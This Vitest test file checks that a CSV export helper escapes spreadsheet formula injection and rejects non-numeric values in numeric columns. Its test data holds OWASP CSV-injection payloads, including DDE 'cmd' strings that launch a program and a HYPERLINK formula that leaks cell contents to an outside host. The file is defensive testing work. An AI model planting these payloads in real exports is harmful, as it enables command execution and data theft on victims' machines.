import { describe, expect, test } from 'vitest';
import { csvDecimal, csvText } from './csvCell.js';

describe('csvText', () => {
  // OWASP's CSV-injection payloads, each with the cell it must become: a single quote first, then quoted
  // as CSV requires (the two OWASP escaping examples are reproduced exactly).
  test.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    [
      '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
      `"'=HYPERLINK(""http://contextis.co.uk?leak=""&A1&A2,""Error: please click for further information"")"`,
    ],
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["+2+3+cmd|' /C calc'!A0", "'+2+3+cmd|' /C calc'!A0"],
    ['=10+20', "'=10+20"],
    ['-10', "'-10"],
    ['+10', "'+10"],
    ['@x', "'@x"],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['\tplain', `"'\tplain"`],
    ['\rplain', `"'\rplain"`],
  ])('%j becomes %j', (payload, cell) => {
    expect(csvText(payload)).toBe(cell);
  });

  test.each([
    [' =1+2', "' =1+2"],
    ['   @SUM(A1)', "'   @SUM(A1)"],
    ['\u00a0=1+2', "'\u00a0=1+2"],
    ['\n=1+2', `"'\n=1+2"`],
    ['"=1+2', `"'""=1+2"`],
    ["'=1+2", "''=1+2"],
    [`" '-1`, `"'"" '-1"`],
  ])('a formula behind leading spaces or quotes, %j, is neutralized too: %j', (payload, cell) => {
    expect(csvText(payload)).toBe(cell);
  });

  test('other text is unchanged, and quoted only when CSV needs it', () => {
    expect(
      [
        'plain',
        'café',
        'a-b',
        'x=1',
        'me@example.com',
        'transfer_in',
        '2026-11-01T00:00:00.000Z',
        '',
        'a,b',
        'a;b',
        'a\tb',
        'say "hi"',
        'two\nlines',
        'cr\r',
        ' padded',
        'padded ',
        "it's",
      ].map(csvText),
    ).toEqual([
      'plain',
      'café',
      'a-b',
      'x=1',
      'me@example.com',
      'transfer_in',
      '2026-11-01T00:00:00.000Z',
      '',
      '"a,b"',
      '"a;b"',
      '"a\tb"',
      '"say ""hi"""',
      '"two\nlines"',
      '"cr\r"',
      '" padded"',
      '"padded "',
      "it's",
    ]);
  });
});

describe('csvDecimal', () => {
  test('a plain decimal stays a number, its sign included', () => {
    expect(['-200.00', '0.00', '1500.50', '12', '-7'].map((n) => csvDecimal(n))).toEqual([
      '-200.00',
      '0.00',
      '1500.50',
      '12',
      '-7',
    ]);
    expect(csvDecimal(3)).toBe('3');
    expect(csvDecimal(-42n)).toBe('-42');
  });

  test.each(['=1+2', "-2+3+cmd|' /C calc'!A0", '+1', '1e3', ' 1', '1 ', '', '1.', '.5', 'NaN', '--1'])(
    '%j is not a number: it throws rather than reach a numeric column',
    (text) => {
      expect(() => csvDecimal(text)).toThrow(TypeError);
    },
  );
});
